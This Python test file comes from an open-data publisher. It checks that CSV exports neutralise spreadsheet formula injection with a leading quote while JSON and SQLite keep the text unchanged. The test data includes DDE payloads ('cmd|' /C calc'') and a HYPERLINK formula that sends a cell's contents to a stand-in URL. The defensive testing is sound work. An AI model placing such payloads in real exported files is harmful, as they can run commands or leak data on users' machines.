"""Text a spreadsheet would execute is neutralised in the CSVs only: JSON and SQLite keep it
exactly as written, numbers are never changed, and the rule is stated where readers look."""

from __future__ import annotations

import copy
import csv
import io
import json
import sqlite3
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relief.model import Dataset, Record
from relief.opendata.changelog import ChangeLog
from relief.opendata.csvfiles import FORMULA_STARTS, QUOTE, RULE_ZH, csv_cell, neutralised
from relief.opendata.publish import publish
from relief.site.pages_guidelines import DOWNLOAD_GROUPS
from relief.site.settings import resolve
from tests.unit.test_sample_dataset import sample

ORG = "jq-chenyaohu-coop"
WRITTEN = {  # column of the organizations table -> text as written in the record
    "name": '=HYPERLINK("https://example.org/?q="&A1,"点击")',
    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+cmd|' /C notepad'!A0",
    "town": "-2+3",
    "registration_authority": "＝1+1",
    "description": "\t=1+1",
}


@pytest.mark.parametrize("text", [
    "=1+1", "+86 562 2812345", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1",
    "'=1", "'",
])
def test_formula_starts_and_quotes_get_one_quote(text: str) -> None:
    assert neutralised(text) == QUOTE + text
    assert csv_cell(text) == QUOTE + text


@pytest.mark.parametrize("text", ["", "示例", "0562-2812345", "a=1", " =1", "2018-09-04", "1-2"])
def test_other_text_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize(("value", "written"), [
    (-5, "-5"), (Decimal("-2.50"), "-2.50"), (Decimal("-0.0000001"), "-0.0000001"),
    (True, "true"), (None, ""),
])
def test_numbers_and_other_values_are_never_quoted(value: Any, written: str) -> None:
    assert csv_cell(value) == written


@given(st.text())
def test_removing_one_leading_quote_gives_the_text_back(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert (cell[1:] if cell.startswith(QUOTE) else cell) == text


def with_formulas() -> Dataset:
    data = sample()
    record = data.get("organizations", ORG)
    assert record is not None
    changed = copy.deepcopy(dict(record.data))
    for column, text in WRITTEN.items():
        if column == "registration_authority":
            changed["registration"]["authority"] = text
        else:
            changed[column] = text
    changed["team"]["members"] = -5  # a number (no record has one below zero, but any might)
    records = {name: dict(items) for name, items in data.records.items()}
    records["organizations"][ORG] = Record(record.collection, ORG, record.file, changed)
    return Dataset(records=records, vocab=data.vocab, today=data.today)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    output = tmp_path_factory.mktemp("formulas")
    publish(with_formulas(), output, resolve({}), ChangeLog())
    return output / "data"


def test_csv_neutralised_json_and_sqlite_exact(published: Path) -> None:
    text = (published / "csv" / "organizations.csv").read_text("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text, newline="")) if r["id"] == ORG)
    assert {column: row[column] for column in WRITTEN} == {
        column: QUOTE + written for column, written in WRITTEN.items()}

    records = json.loads((published / "organizations.json").read_text("utf-8"))
    record = next(r for r in records if r["id"] == ORG)
    assert record["name"] == WRITTEN["name"]
    assert record["registration"]["authority"] == WRITTEN["registration_authority"]
    assert {c: record[c] for c in WRITTEN if c != "registration_authority"} == {
        c: t for c, t in WRITTEN.items() if c != "registration_authority"}

    with closing(sqlite3.connect(published / "relief.sqlite")) as db:
        names = ", ".join(WRITTEN)
        stored = db.execute(f"SELECT {names} FROM organizations WHERE id = ?", (ORG,)).fetchone()
    assert dict(zip(WRITTEN, stored, strict=True)) == WRITTEN


def test_a_negative_number_stays_a_number(published: Path) -> None:
    text = (published / "csv" / "organizations.csv").read_text("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text, newline="")) if r["id"] == ORG)
    assert row["team_members"] == "-5"
    with closing(sqlite3.connect(published / "relief.sqlite")) as db:
        (stored,) = db.execute("SELECT team_members FROM organizations WHERE id = ?",
                               (ORG,)).fetchone()
    assert stored == -5


def test_the_rule_is_stated_in_the_package_and_on_the_downloads_page(published: Path) -> None:
    package = json.loads((published / "datapackage.json").read_text("utf-8"))
    assert RULE_ZH in package["description"]
    assert RULE_ZH in DOWNLOAD_GROUPS["csv"][1]
    for start in ("=", "+", "-", "@", "＝＋－＠", "制表符", "回车", "JSON", "SQLite"):
        assert start in RULE_ZH
